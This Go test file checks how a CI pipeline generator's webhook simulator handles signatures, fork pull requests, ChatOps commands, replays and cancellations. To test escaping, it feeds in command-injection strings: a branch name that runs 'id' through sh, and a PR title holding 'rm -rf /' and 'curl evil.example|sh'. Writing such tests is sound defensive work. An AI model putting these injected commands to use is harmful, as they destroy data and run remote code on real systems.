package simulate_test

import (
	"context"
	"crypto/hmac"
	"crypto/sha1"
	"crypto/sha512"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"hash"
	"net/http"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/pipewright/pipewright/generator/generatortest"
	"github.com/pipewright/pipewright/generator/render"
	"github.com/pipewright/pipewright/pkg/github/githubtest"
	"github.com/pipewright/pipewright/pkg/interceptor"
	"github.com/pipewright/pipewright/pkg/simulate"
)

const (
	payloads = "../../test/testdata/github-webhooks"
	secret   = "It's a Secret to Everybody"
	repo     = "Codertocat/Hello-World"
	prHead   = "ec26c3e57ca3a959ca5aad62de7213c562f8c821"
	newHead  = "4f1c1f2d6e0b8e5c0a9b3e7d2c1b0a9f8e7d6c5b"
	pushSHA  = "6113728f27ae82c7b1a177c8d03f9e96e0adf246"
)

// project generates the built-in example with extra config appended (it
// ends inside the github: block), and a tool image, for the ChatOps trigger.
func project(t *testing.T, extra string) render.Tree {
	t.Helper()
	return generatortest.Project(t, extra+"tools:\n  image: "+generatortest.ToolImage(t)+"\n")
}

func read(t *testing.T, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(payloads, name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// derive changes a real payload; set takes dotted paths.
func derive(t *testing.T, name string, set map[string]any) []byte {
	t.Helper()
	var m map[string]any
	if err := json.Unmarshal(read(t, name), &m); err != nil {
		t.Fatal(err)
	}
	for path, v := range set {
		keys := strings.Split(path, ".")
		cur := m
		for _, k := range keys[:len(keys)-1] {
			cur = cur[k].(map[string]any)
		}
		cur[keys[len(keys)-1]] = v
	}
	b, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func comment(t *testing.T, body, user string) []byte {
	return derive(t, "issue_comment.created.json", map[string]any{
		"issue.pull_request": map[string]any{"url": "https://api.github.com/repos/Codertocat/Hello-World/pulls/1"},
		"comment.body":       body,
		"comment.user.login": user,
	})
}

// fakeGitHub knows PR #1 of the example repository, from a fork by an
// untrusted author unless same is set; Codertocat has write, bob is in
// OWNERS, mallory has read.
func fakeGitHub(t *testing.T, head string, same bool) *githubtest.Server {
	gh := githubtest.New(t)
	gh.AddRepo(repo)
	p := githubtest.Pull{Number: 1, Author: "mallory", Association: "NONE", HeadSHA: head, HeadRef: "patch-1",
		HeadRepo: "mallory/Hello-World", BaseRef: "master"}
	if same {
		p.HeadRepo, p.Author, p.Association = "", "Codertocat", "OWNER"
	}
	gh.AddPull(repo, p)
	gh.SetPermission(repo, "Codertocat", "admin")
	gh.SetPermission(repo, "mallory", "read")
	gh.AddFile(repo, "OWNERS", "approvers:\n  - carol\nreviewers:\n  - bob\n")
	return gh
}

func TestSimulate(t *testing.T) {
	tree := project(t, "  owners:\n    - alice\n")
	pr := func(revision string) map[string]string {
		return map[string]string{"repo-url": "https://github.com/Codertocat/Hello-World.git", "revision": revision,
			"repo-full-name": repo, "pr-number": "2"}
	}
	pr1 := func(revision string) map[string]string {
		p := pr(revision)
		p["pr-number"] = "1"
		return p
	}
	release := func(revision string) map[string]string {
		return map[string]string{"repo-url": "https://github.com/Codertocat/Hello-World.git", "revision": revision, "repo-full-name": repo}
	}
	const fork = "mallory/Hello-World"
	shell := "feat/$(touch /tmp/pwned);echo${IFS}`id`|sh&&'\"x"
	type tc struct {
		name, event string
		payload     []byte
		head        string // PR #1 head on the fake GitHub; "" = no GitHub calls expected
		master      string // the default branch's head on the fake GitHub, for a push
		samePR      bool
		d           func(*simulate.Delivery)
		fires       string            // trigger that fires, or ""
		params      map[string]string // its PipelineRun's params
		annotations map[string]string
		reason      string   // for a PR/comment that did not fire: part of the trigger's reason
		requests    []string // exact GitHub requests
	}
	var cases []tc
	// Every real payload, as GitHub sends it.
	real := map[string]struct {
		fires  string
		params map[string]string
	}{
		"pull_request.opened.json":                     {"pull-request", pr(prHead)},
		"pull_request.opened.with-organization.json":   {"pull-request", pr(prHead)},
		"pull_request.reopened.json":                   {"pull-request", pr(prHead)},
		"pull_request.synchronize.json":                {"pull-request", pr(prHead)},
		"pull_request.ready_for_review.json":           {"pull-request", pr(prHead)},
		"pull_request.closed.json":                     {},
		"pull_request.converted_to_draft.json":         {},
		"pull_request.labeled.json":                    {},
		"push.json":                                    {}, // tag deletion
		"push.1.json":                                  {},
		"push.with-organization.json":                  {},
		"push.with-new-branch.json":                    {"release", release(pushSHA)}, // master at pushSHA
		"issue_comment.created.json":                   {},                            // on an issue, not a command
		"issue_comment.created.with-organization.json": {},
		"ping.json":                                    {},
	}
	files, _ := filepath.Glob(filepath.Join(payloads, "*.json"))
	if len(files) != len(real) {
		t.Fatalf("%d payload files, %d expectations: add the new file to the table", len(files), len(real))
	}
	for _, f := range files {
		name := filepath.Base(f)
		want, ok := real[name]
		if !ok {
			t.Fatalf("no expectation for %s", name)
		}
		c := tc{name: name, event: strings.SplitN(name, ".", 2)[0], payload: read(t, name), fires: want.fires, params: want.params}
		if want.fires == "release" {
			// The interceptor asks GitHub where the branch is now.
			c.master, c.requests = pushSHA, []string{"GET /repos/Codertocat/Hello-World/branches/master"}
		}
		cases = append(cases, c)
		if want.fires != "" {
			// A wrong secret, a forged signature or none: nothing fires.
			ev := strings.SplitN(name, ".", 2)[0]
			cases = append(cases,
				tc{name: name + "/wrong secret", event: ev, payload: read(t, name), d: func(d *simulate.Delivery) { d.Signature = simulate.Sign("guess", d.Payload) }},
				tc{name: name + "/forged signature", event: ev, payload: read(t, name), d: func(d *simulate.Delivery) { d.Signature = "sha256=" + strings.Repeat("0", 64) }},
				tc{name: name + "/no signature", event: ev, payload: read(t, name), d: func(d *simulate.Delivery) { d.Unsigned = true }},
			)
		}
	}
	cases = append(cases,
		tc{name: "fork PR, untrusted author", event: "pull_request", payload: derive(t, "pull_request.opened.json", map[string]any{
			"pull_request.head.repo.full_name": fork, "pull_request.author_association": "NONE", "pull_request.user.login": "mallory"}),
			reason: "did not return true"},
		tc{name: "fork PR, owner from the config", event: "pull_request", payload: derive(t, "pull_request.opened.json", map[string]any{
			"pull_request.head.repo.full_name": fork, "pull_request.author_association": "CONTRIBUTOR", "pull_request.user.login": "alice"}),
			fires: "pull-request", params: pr(prHead)},
		tc{name: "fork PR, member", event: "pull_request", payload: derive(t, "pull_request.synchronize.json", map[string]any{
			"pull_request.head.repo.full_name": fork, "pull_request.author_association": "MEMBER", "pull_request.user.login": "dave"}),
			fires: "pull-request", params: pr(prHead)},
		tc{name: "merged PR", event: "pull_request", payload: derive(t, "pull_request.closed.json", map[string]any{"pull_request.merged": true}),
			reason: "did not return true"},
		tc{name: "draft PR", event: "pull_request", payload: derive(t, "pull_request.opened.json", map[string]any{"pull_request.draft": true}),
			reason: "did not return true"},
		tc{name: "PR to another branch", event: "pull_request", payload: derive(t, "pull_request.opened.json", map[string]any{"pull_request.base.ref": "release-1"}),
			reason: "did not return true"},
		tc{name: "push to default branch", event: "push", payload: derive(t, "push.json", map[string]any{
			"ref": "refs/heads/master", "deleted": false, "after": newHead}), fires: "release", params: release(newHead),
			master: newHead, requests: []string{"GET /repos/Codertocat/Hello-World/branches/master"},
			annotations: map[string]string{"pipewright.dev/event": "push", "pipewright.dev/ref": "refs/heads/master"}},
		tc{name: "push to feature branch", event: "push", payload: derive(t, "push.with-new-branch.json", map[string]any{"ref": "refs/heads/feature"})},
		tc{name: "tag push", event: "push", payload: derive(t, "push.json", map[string]any{"deleted": false, "created": true, "after": newHead, "ref": "refs/tags/v1.0.0"})},
		tc{name: "default branch deleted", event: "push", payload: derive(t, "push.json", map[string]any{"ref": "refs/heads/master"})},
		tc{name: "shell metacharacters in title and branch", event: "pull_request", payload: derive(t, "pull_request.opened.json", map[string]any{
			"pull_request.title": "\"; rm -rf / # $(curl evil.example|sh) `reboot`", "pull_request.head.ref": shell}),
			fires: "pull-request", params: pr(prHead),
			// Triggers escapes $( so Tekton does not substitute it.
			annotations: map[string]string{"pipewright.dev/head-ref": strings.ReplaceAll(shell, "$(", "$$("), "pipewright.dev/base-ref": "master", "pipewright.dev/event": "pull_request"}},
		// ChatOps: the pipewright interceptor asks GitHub.
		tc{name: "/retest by a collaborator on a same-repo PR", event: "issue_comment", payload: comment(t, "/retest", "Codertocat"),
			head: prHead, samePR: true, fires: "chatops", params: pr1(prHead),
			annotations: map[string]string{"pipewright.dev/head-ref": "patch-1", "pipewright.dev/base-ref": "master", "pipewright.dev/event": "pull_request"},
			requests:    []string{"GET /repos/Codertocat/Hello-World/pulls/1", "GET /repos/Codertocat/Hello-World/collaborators/Codertocat/permission"}},
		tc{name: "/retest by a read-only user", event: "issue_comment", payload: comment(t, "/retest", "mallory"),
			head: prHead, samePR: true, reason: "mallory may not start CI here",
			requests: []string{"GET /repos/Codertocat/Hello-World/pulls/1", "GET /repos/Codertocat/Hello-World/collaborators/mallory/permission",
				"GET /repos/Codertocat/Hello-World/contents/OWNERS?ref=master"}},
		tc{name: "/retest on an untrusted fork", event: "issue_comment", payload: comment(t, "/retest", "Codertocat"),
			head: prHead, reason: "approve a commit with /ok-to-test <sha>",
			requests: []string{"GET /repos/Codertocat/Hello-World/pulls/1", "GET /repos/Codertocat/Hello-World/collaborators/Codertocat/permission",
				"GET /repos/Codertocat/Hello-World/collaborators/mallory/permission", "GET /repos/Codertocat/Hello-World/contents/OWNERS?ref=master"}},
		tc{name: "/ok-to-test <sha> from an OWNERS reviewer", event: "issue_comment", payload: comment(t, "LGTM\n/ok-to-test "+prHead, "bob"),
			head: prHead, fires: "chatops", params: pr1(prHead),
			requests: []string{"GET /repos/Codertocat/Hello-World/pulls/1", "GET /repos/Codertocat/Hello-World/collaborators/bob/permission",
				"GET /repos/Codertocat/Hello-World/contents/OWNERS?ref=master"}},
		tc{name: "/ok-to-test <sha> from a config owner", event: "issue_comment", payload: comment(t, "/ok-to-test "+prHead, "alice"),
			head: prHead, fires: "chatops", params: pr1(prHead),
			requests: []string{"GET /repos/Codertocat/Hello-World/pulls/1"}},
		tc{name: "/ok-to-test <sha> after a push moved the head", event: "issue_comment", payload: comment(t, "/ok-to-test "+prHead, "Codertocat"),
			head: newHead, reason: "approval names " + prHead + " but the PR head is " + newHead + ": review the new commits and approve again",
			requests: []string{"GET /repos/Codertocat/Hello-World/pulls/1", "GET /repos/Codertocat/Hello-World/collaborators/Codertocat/permission"}},
		tc{name: "/ok-to-test from an untrusted user", event: "issue_comment", payload: comment(t, "/ok-to-test "+prHead, "mallory"),
			head: prHead, reason: "mallory may not start CI here",
			requests: []string{"GET /repos/Codertocat/Hello-World/pulls/1", "GET /repos/Codertocat/Hello-World/collaborators/mallory/permission",
				"GET /repos/Codertocat/Hello-World/contents/OWNERS?ref=master"}},
		tc{name: "/ok-to-test with a short sha", event: "issue_comment", payload: comment(t, "/ok-to-test "+prHead[:7], "Codertocat"),
			head: prHead, reason: "want the full commit sha, 40 hex digits"},
		tc{name: "/ok-to-test without a sha", event: "issue_comment", payload: comment(t, "/ok-to-test", "Codertocat"),
			head: prHead, reason: "/ok-to-test needs the commit it approves"},
	)
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			opts := simulate.Options{}
			var gh *githubtest.Server
			if c.head != "" || c.master != "" {
				gh = fakeGitHub(t, c.head, c.samePR)
				gh.SetBranch(repo, "master", c.master)
				opts = simulate.Options{GitHubAPI: gh.URL, GitHubToken: gh.Token}
			}
			d := simulate.Delivery{Event: c.event, Payload: c.payload, Secret: secret}
			if c.d != nil {
				c.d(&d)
			}
			res, err := simulate.Run(context.Background(), tree, d, opts)
			if err != nil {
				t.Fatal(err)
			}
			var fired []string
			for _, f := range res.Fired {
				fired = append(fired, f.Trigger)
			}
			if c.fires == "" {
				if len(fired) > 0 {
					t.Fatalf("fired %v, want nothing", fired)
				}
			} else if !reflect.DeepEqual(fired, []string{c.fires}) {
				t.Fatalf("fired %v, want [%s]; skipped: %+v", fired, c.fires, res.Skipped)
			}
			if len(res.Skipped)+len(res.Fired) != 3 {
				t.Errorf("%d triggers evaluated, want 3", len(res.Skipped)+len(res.Fired))
			}
			if c.d != nil {
				for _, s := range res.Skipped {
					if !strings.Contains(s.Reason, "signature") && !strings.Contains(s.Reason, "X-Hub-Signature-256") && !strings.Contains(s.Reason, "not allowed") {
						t.Errorf("trigger %s: reason %q does not name the signature", s.Trigger, s.Reason)
					}
				}
			}
			if c.reason != "" {
				want := "pull-request"
				if c.event == "issue_comment" {
					want = "chatops"
				}
				found := false
				for _, s := range res.Skipped {
					if s.Trigger == want {
						found = true
						if !strings.Contains(s.Reason, c.reason) {
							t.Errorf("trigger %s: reason %q, want it to contain %q", want, s.Reason, c.reason)
						}
					}
				}
				if !found {
					t.Errorf("trigger %s was not skipped", want)
				}
			}
			if c.fires != "" {
				run := res.Fired[0].PipelineRun
				got := map[string]string{}
				for _, p := range run.Spec.Params {
					got[p.Name] = p.Value.StringVal
				}
				if !reflect.DeepEqual(got, c.params) {
					t.Errorf("params %v, want %v", got, c.params)
				}
				for k, v := range c.annotations {
					if run.Annotations[k] != v {
						t.Errorf("annotation %s = %q, want %q", k, run.Annotations[k], v)
					}
				}
				// Runs of pull-request code, whether the PR or a comment
				// started them, use the account without rights or token.
				wantSA, wantToken := "hello-world-pull-request", false
				if c.fires == "release" {
					wantSA, wantToken = "hello-world-release", true
				}
				pt := run.Spec.TaskRunTemplate.PodTemplate
				if sa := run.Spec.TaskRunTemplate.ServiceAccountName; sa != wantSA {
					t.Errorf("service account %s, want %s", sa, wantSA)
				}
				if token := pt == nil || pt.AutomountServiceAccountToken == nil || *pt.AutomountServiceAccountToken; token != wantToken {
					t.Errorf("service-account token mounted: %v, want %v", token, wantToken)
				}
				if want := "hello-world-" + map[string]string{"release": "release"}[c.fires]; c.fires == "release" && run.Spec.PipelineRef.Name != want {
					t.Errorf("pipelineRef %s, want %s", run.Spec.PipelineRef.Name, want)
				} else if c.fires != "release" && run.Spec.PipelineRef.Name != "hello-world-pull-request" {
					t.Errorf("pipelineRef %s, want hello-world-pull-request", run.Spec.PipelineRef.Name)
				}
			}
			if gh != nil {
				var got []string
				for _, r := range gh.Requests() {
					got = append(got, strings.TrimSuffix(r.Method+" "+r.Path+"?"+r.Query, "?"))
					if r.Auth != "Bearer "+gh.Token {
						t.Errorf("%s %s: Authorization %q", r.Method, r.Path, r.Auth)
					}
				}
				if !reflect.DeepEqual(got, c.requests) {
					t.Errorf("GitHub requests:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(c.requests, "\n"))
				}
			}
		})
	}
}

// TestPathFilters: with paths in the config, the github interceptor lists
// the PR's files from the GitHub API and CEL matches them.
// openPullRequest delivers the real pull_request.opened payload (#2) to
// tree, with a GitHub test server that lists files as the PR's changes.
func openPullRequest(t *testing.T, tree render.Tree, files []string) (*simulate.Result, *githubtest.Server) {
	t.Helper()
	gh := githubtest.New(t)
	gh.AddRepo(repo)
	gh.AddPull(repo, githubtest.Pull{Number: 2, HeadSHA: prHead, BaseRef: "master", Files: files})
	res, err := simulate.Run(context.Background(), tree,
		simulate.Delivery{Event: "pull_request", Payload: read(t, "pull_request.opened.json"), Secret: secret},
		simulate.Options{GitHubAPI: gh.URL, GitHubToken: gh.Token})
	if err != nil {
		t.Fatal(err)
	}
	return res, gh
}

func TestPathFilters(t *testing.T) {
	tree := project(t, "paths:\n  - services/api/**\n  - go.mod\n")
	for _, c := range []struct {
		files []string
		fires bool
	}{
		{[]string{"README.md", "services/api/handler/main.go"}, true},
		{[]string{"go.mod"}, true},
		{[]string{"services/web/main.go", "go.sum"}, false},
	} {
		t.Run(fmt.Sprint(c.files), func(t *testing.T) {
			res, gh := openPullRequest(t, tree, c.files)
			if got := len(res.Fired) == 1; got != c.fires {
				t.Fatalf("fired %v, want %v; skipped %+v", got, c.fires, res.Skipped)
			}
			var got []string
			for _, r := range gh.Requests() {
				got = append(got, r.Method+" "+r.Path+"?"+r.Query+" "+r.Auth)
			}
			want := []string{"GET /repos/Codertocat/Hello-World/pulls/2/files?per_page=100 Bearer " + gh.Token}
			if !reflect.DeepEqual(got, want) {
				t.Errorf("requests %q, want %q", got, want)
			}
		})
	}
}

// Without tools.image there is no interceptor to run, and so no ChatOps
// trigger: a command comment starts nothing, and GitHub is not asked.
func TestNoChatOpsWithoutToolImage(t *testing.T) {
	tree := generatortest.Project(t, "")
	gh := fakeGitHub(t, prHead, true)
	res, err := simulate.Run(context.Background(), tree,
		simulate.Delivery{Event: "issue_comment", Payload: comment(t, "/retest", "Codertocat"), Secret: secret},
		simulate.Options{GitHubAPI: gh.URL, GitHubToken: gh.Token})
	if err != nil {
		t.Fatal(err)
	}
	var triggers []string
	for _, s := range res.Skipped {
		triggers = append(triggers, s.Trigger)
	}
	if len(res.Fired) != 0 || !reflect.DeepEqual(triggers, []string{"pull-request", "release"}) {
		t.Errorf("fired %+v, skipped %v; want only the pull-request and release triggers, skipped", res.Fired, triggers)
	}
	if n := len(gh.Requests()); n != 0 {
		t.Errorf("%d GitHub requests, want none", n)
	}
}

// signWith is an X-Hub-Signature-256 value with another HMAC algorithm, as
// Triggers' github interceptor accepts it.
func signWith(prefix string, h func() hash.Hash, body []byte) string {
	m := hmac.New(h, []byte(secret))
	m.Write(body)
	return prefix + hex.EncodeToString(m.Sum(nil))
}

// TestSecurity: what issue 18 found firing that must not, each through
// Triggers' own interceptors and the generated filters.
func TestSecurity(t *testing.T) {
	tree := project(t, "paths:\n  - services/api/**\n")
	push := func(set map[string]any) []byte {
		base := map[string]any{"ref": "refs/heads/master", "deleted": false, "after": newHead,
			"commits": []any{map[string]any{"id": newHead, "added": []any{}, "removed": []any{}, "modified": []any{"services/api/main.go"}}}}
		for k, v := range set {
			base[k] = v
		}
		return derive(t, "push.json", base)
	}
	other := map[string]any{"repository.full_name": "mallory/other", "repository.clone_url": "https://github.com/mallory/other.git"}
	otherPR := map[string]any{"repository.full_name": "mallory/other", "pull_request.base.repo.full_name": "mallory/other",
		"pull_request.head.repo.full_name": "mallory/other", "repository.clone_url": "https://github.com/mallory/other.git"}
	for _, c := range []struct {
		name, event string
		payload     []byte
		files       []string // PR files on the fake GitHub
		d           func(*simulate.Delivery)
		fires       string
	}{
		// 1. Only the configured repository fires.
		{name: "PR in another repository signed with the same secret", event: "pull_request",
			payload: derive(t, "pull_request.opened.json", otherPR), files: []string{"services/api/x.go"}},
		{name: "push to another repository's default branch", event: "push", payload: push(other)},
		{name: "command on another repository's PR", event: "issue_comment",
			payload: derive(t, "issue_comment.created.json", map[string]any{"issue.pull_request": map[string]any{"url": "x"},
				"comment.body": "/retest", "repository.full_name": "mallory/other"})},
		{name: "PR, repository name in another case", event: "pull_request", files: []string{"services/api/x.go"},
			payload: derive(t, "pull_request.opened.json", map[string]any{"repository.full_name": "codertocat/hello-world"}), fires: "pull-request"},
		{name: "push to the default branch", event: "push", payload: push(nil), fires: "release"},
		// 2. Releases honour paths.
		{name: "push touching only another service", event: "push", payload: push(map[string]any{
			"commits": []any{map[string]any{"id": newHead, "added": []any{"services/web/new.go"}, "removed": []any{}, "modified": []any{"README.md"}}}})},
		{name: "push removing a file of the service", event: "push", fires: "release", payload: push(map[string]any{
			"commits": []any{
				map[string]any{"id": newHead, "added": []any{}, "removed": []any{}, "modified": []any{"README.md"}},
				map[string]any{"id": newHead, "added": []any{}, "removed": []any{"services/api/old.go"}, "modified": []any{}}}})},
		// 4. HMAC-SHA256 only.
		{name: "push signed with sha1=", event: "push", payload: push(nil),
			d: func(d *simulate.Delivery) { d.Signature = signWith("sha1=", sha1.New, d.Payload) }},
		{name: "push signed with sha512=", event: "push", payload: push(nil),
			d: func(d *simulate.Delivery) { d.Signature = signWith("sha512=", sha512.New, d.Payload) }},
		{name: "PR signed with sha1=", event: "pull_request", payload: read(t, "pull_request.opened.json"), files: []string{"services/api/x.go"},
			d: func(d *simulate.Delivery) { d.Signature = signWith("sha1=", sha1.New, d.Payload) }},
	} {
		t.Run(c.name, func(t *testing.T) {
			gh := githubtest.New(t)
			gh.AddRepo(repo)
			gh.AddRepo("mallory/other")
			gh.AddPull(repo, githubtest.Pull{Number: 2, HeadSHA: prHead, BaseRef: "master", Files: c.files})
			gh.AddPull("mallory/other", githubtest.Pull{Number: 2, HeadSHA: prHead, BaseRef: "master", Files: c.files})
			gh.AddPull(repo, githubtest.Pull{Number: 1, HeadSHA: prHead, BaseRef: "master", HeadRef: "patch-1", Author: "Codertocat", Association: "OWNER"})
			gh.SetPermission(repo, "Codertocat", "admin")
			gh.SetBranch(repo, "master", newHead)
			d := simulate.Delivery{Event: c.event, Payload: c.payload, Secret: secret}
			if c.d != nil {
				c.d(&d)
			}
			res, err := simulate.Run(context.Background(), tree, d, simulate.Options{GitHubAPI: gh.URL, GitHubToken: gh.Token})
			if err != nil {
				t.Fatal(err)
			}
			var fired []string
			for _, f := range res.Fired {
				fired = append(fired, f.Trigger)
			}
			if want := []string{c.fires}; c.fires == "" && len(fired) > 0 || c.fires != "" && !reflect.DeepEqual(fired, want) {
				t.Fatalf("fired %v, want %q; skipped %+v", fired, c.fires, res.Skipped)
			}
			if c.fires == "" {
				for _, r := range gh.Requests() {
					if strings.Contains(r.Path, "mallory/other") || r.Method != http.MethodGet {
						t.Errorf("GitHub asked %s %s for a delivery that must not fire", r.Method, r.Path)
					}
				}
			}
		})
	}
}

// A webhook secret that signs nothing is refused, not simulated.
func TestEmptySecret(t *testing.T) {
	tree := project(t, "")
	for _, s := range []string{"", " ", "\t\n"} {
		_, err := simulate.Run(context.Background(), tree, simulate.Delivery{Event: "push", Payload: read(t, "push.json"), Secret: s}, simulate.Options{})
		if err == nil || !strings.Contains(err.Error(), "empty or whitespace") {
			t.Errorf("secret %q: %v, want the empty-secret error", s, err)
		}
	}
}

// TestReplay: with the runs earlier deliveries created in the cluster, a
// delivery is refused when GitHub redelivers it (same id), when its signed
// body comes again under another id, and a push when the branch has moved
// on (an old push replayed after its runs were pruned, or a superseded
// one). Runs carry the labels the lookups use.
func TestReplay(t *testing.T) {
	tree := project(t, "")
	gh := fakeGitHub(t, prHead, true)
	gh.SetBranch(repo, "master", newHead)
	opts := simulate.Options{GitHubAPI: gh.URL, GitHubToken: gh.Token, Cluster: &simulate.Cluster{}}
	pushBody := derive(t, "push.json", map[string]any{"ref": "refs/heads/master", "deleted": false, "after": newHead})
	const id1, id2 = "9a0c8c00-4a6f-11ef-8a3e-5d1a0b7f1a01", "9a0c8c00-4a6f-11ef-8a3e-5d1a0b7f1a02"
	deliver := func(event, id string, body []byte) *simulate.Result {
		t.Helper()
		res, err := simulate.Run(context.Background(), tree, simulate.Delivery{Event: event, Payload: body, Secret: secret, ID: id}, opts)
		if err != nil {
			t.Fatal(err)
		}
		return res
	}
	reason := func(res *simulate.Result, trigger string) string {
		for _, s := range res.Skipped {
			if s.Trigger == trigger {
				return s.Reason
			}
		}
		return ""
	}

	res := deliver("push", id1, pushBody)
	if len(res.Fired) != 1 {
		t.Fatalf("first push: fired %d; skipped %+v", len(res.Fired), res.Skipped)
	}
	labels := res.Fired[0].PipelineRun.Labels
	for k, v := range map[string]string{"pipewright.dev/delivery": id1, "pipewright.dev/sha": newHead, "pipewright.dev/kind": "release",
		"pipewright.dev/repository": "codertocat.hello-world", "pipewright.dev/payload": interceptor.PayloadHash(pushBody)} {
		if labels[k] != v {
			t.Errorf("label %s = %q, want %q", k, labels[k], v)
		}
	}
	if r := reason(deliver("push", id1, pushBody), "release"); !strings.Contains(r, "replay: a PipelineRun with pipewright.dev/delivery="+id1) {
		t.Errorf("redelivery: %q", r)
	}
	if r := reason(deliver("push", id2, pushBody), "release"); !strings.Contains(r, "replay: a PipelineRun with pipewright.dev/payload=") {
		t.Errorf("same body, new id: %q", r)
	}
	// The runs were pruned; an old push is still refused: master moved on.
	opts.Cluster = &simulate.Cluster{}
	old := derive(t, "push.json", map[string]any{"ref": "refs/heads/master", "deleted": false, "after": pushSHA})
	if r := reason(deliver("push", id2, old), "release"); !strings.Contains(r, "push of "+pushSHA+", but master is at "+newHead+" now") {
		t.Errorf("old push: %q", r)
	}

	// Pull requests: the second delivery of one event starts nothing.
	pr := read(t, "pull_request.synchronize.json")
	if res := deliver("pull_request", id1, pr); len(res.Fired) != 1 || res.Fired[0].PipelineRun.Labels["pipewright.dev/pull-request"] != "2" {
		t.Fatalf("first PR delivery: %+v", res)
	}
	if r := reason(deliver("pull_request", id2, pr), "pull-request"); !strings.Contains(r, "replay") {
		t.Errorf("PR replay: %q", r)
	}

	// A ChatOps run records who approved it.
	res = deliver("issue_comment", id2, comment(t, "/ok-to-test "+prHead, "Codertocat"))
	if len(res.Fired) != 1 {
		t.Fatalf("/ok-to-test: %+v", res.Skipped)
	}
	if got := res.Fired[0].PipelineRun.Annotations["pipewright.dev/approved-by"]; got != "Codertocat (collaborator with admin permission)" {
		t.Errorf("approved-by %q", got)
	}
}

// TestLifecycle: a new push to a pull request cancels that pull request's
// older running runs (and no other's); a newer release cancels the older
// one still running, so two never deploy at once or out of order; with
// KeepRuns the oldest finished runs are pruned.
func TestLifecycle(t *testing.T) {
	tree := project(t, "")
	gh := fakeGitHub(t, prHead, true)
	cluster := &simulate.Cluster{}
	opts := simulate.Options{GitHubAPI: gh.URL, GitHubToken: gh.Token, Cluster: cluster, KeepRuns: 2}
	next := deliveries(t, tree, opts)
	deliver := func(event string, body []byte) *simulate.Result {
		t.Helper()
		res := next(event, body)
		if len(res.Fired) != 1 {
			t.Fatalf("%s: fired %d; skipped %+v", event, len(res.Fired), res.Skipped)
		}
		return res
	}
	status := func() map[string]string {
		out := map[string]string{}
		for _, r := range cluster.Runs {
			out[r.Labels["pipewright.dev/kind"]+"#"+r.Labels["pipewright.dev/pull-request"]+"@"+r.Labels["pipewright.dev/sha"][:7]] = string(r.Spec.Status)
		}
		return out
	}
	sync := func(number int, sha string) []byte {
		return derive(t, "pull_request.synchronize.json", map[string]any{"number": number, "pull_request.number": number, "pull_request.head.sha": sha})
	}
	const shaA, shaB = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"
	deliver("pull_request", sync(2, shaA))
	deliver("pull_request", sync(3, shaA))
	deliver("pull_request", sync(2, shaB))
	want := map[string]string{"pull-request#2@aaaaaaa": "CancelledRunFinally", "pull-request#3@aaaaaaa": "", "pull-request#2@bbbbbbb": ""}
	if got := status(); !reflect.DeepEqual(got, want) {
		t.Errorf("after a second push to #2: %v, want %v", got, want)
	}
	// /retest on #1 (head prHead) cancels nothing of #2 or #3.
	deliver("issue_comment", comment(t, "/retest", "Codertocat"))
	want["pull-request#1@"+prHead[:7]] = ""
	if got := status(); !reflect.DeepEqual(got, want) {
		t.Errorf("after /retest on #1: %v, want %v", got, want)
	}

	// Releases: the second merge supersedes the first, still running.
	push := func(sha string) []byte {
		gh.SetBranch(repo, "master", sha)
		return derive(t, "push.json", map[string]any{"ref": "refs/heads/master", "deleted": false, "after": sha})
	}
	first := deliver("push", push(shaA)).Fired[0].PipelineRun.Name
	deliver("push", push(shaB))
	if got := status(); got["release#@aaaaaaa"] != "CancelledRunFinally" || got["release#@bbbbbbb"] != "" {
		t.Errorf("after the second merge: %v", got)
	}

	// Pruning keeps the newest two finished releases (and the new one).
	for _, r := range cluster.Runs {
		cluster.Finish(r.Name)
	}
	deliver("push", push(newHead))
	for _, r := range cluster.Runs {
		cluster.Finish(r.Name)
	}
	res := deliver("push", push(pushSHA))
	var releases []string
	for _, r := range cluster.Runs {
		if r.Labels["pipewright.dev/kind"] == "release" {
			releases = append(releases, r.Labels["pipewright.dev/sha"][:7])
		}
	}
	if want := []string{"bbbbbbb", newHead[:7], pushSHA[:7]}; !reflect.DeepEqual(releases, want) {
		t.Errorf("release runs left %v, want %v (%s pruned)", releases, want, first)
	}
	if got := res.Fired[0].PipelineRun.Labels["pipewright.dev/kind"]; got != "release" {
		t.Errorf("the last run is a %s run", got)
	}
}

// TestChatOpsCommands: /test <pipeline> starts the named pull-request
// pipeline, /cancel stops the pull request's runs and starts none, both
// with /retest's trust rules.
func TestChatOpsCommands(t *testing.T) {
	tree := project(t, "")
	gh := fakeGitHub(t, prHead, true)
	cluster := &simulate.Cluster{}
	next := deliveries(t, tree, simulate.Options{GitHubAPI: gh.URL, GitHubToken: gh.Token, Cluster: cluster})
	deliver := func(body, user string) *simulate.Result { return next("issue_comment", comment(t, body, user)) }
	chatops := func(res *simulate.Result) string {
		for _, s := range res.Skipped {
			if s.Trigger == "chatops" {
				return s.Reason
			}
		}
		return ""
	}
	if res := deliver("/test hello-world-pull-request", "Codertocat"); len(res.Fired) != 1 || res.Fired[0].PipelineRun.Spec.PipelineRef.Name != "hello-world-pull-request" {
		t.Fatalf("/test: %+v", res)
	}
	if r := chatops(deliver("/test hello-world-release", "Codertocat")); !strings.Contains(r, "no such pipeline here") {
		t.Errorf("/test of the release pipeline: %q", r)
	}
	if r := chatops(deliver("/cancel", "mallory")); !strings.Contains(r, "mallory may not start CI here") {
		t.Errorf("/cancel by an untrusted user: %q", r)
	}
	if cluster.Runs[0].Spec.Status != "" {
		t.Fatal("an untrusted /cancel cancelled a run")
	}
	res := deliver("/cancel", "Codertocat")
	if len(res.Fired) != 0 || !strings.Contains(chatops(res), "cancelled 1 run(s) of pull request #1") {
		t.Errorf("/cancel: fired %d, %q", len(res.Fired), chatops(res))
	}
	if cluster.Runs[0].Spec.Status != "CancelledRunFinally" {
		t.Errorf("run %s: status %q after /cancel", cluster.Runs[0].Name, cluster.Runs[0].Spec.Status)
	}
}

// deliveries sends deliveries one after the other, each with a new
// delivery id, into one simulated cluster (opts.Cluster).
